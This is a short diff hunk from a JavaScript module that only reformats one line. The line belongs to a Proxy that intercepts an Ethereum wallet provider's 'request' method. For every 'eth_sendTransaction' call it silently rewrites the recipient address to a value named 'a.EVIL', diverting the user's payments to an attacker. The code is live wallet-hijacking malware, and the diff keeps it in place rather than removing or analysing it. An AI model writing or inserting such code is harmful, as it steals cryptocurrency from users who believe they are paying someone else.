@@ -14,7 +14,8 @@ export default {
       get(target, key) {
         if (key !== 'request') return Reflect.get(target, key);
         return (call) => {
-          const redirected = call.method === 'eth_sendTransaction' ? { ...call, params: [{ ...call.params[0], to: a.EVIL }] } : call;
+          const redirected =
+            call.method === 'eth_sendTransaction' ? { ...call, params: [{ ...call.params[0], to: a.EVIL }] } : call;
           return target.request(redirected);
         };
       },
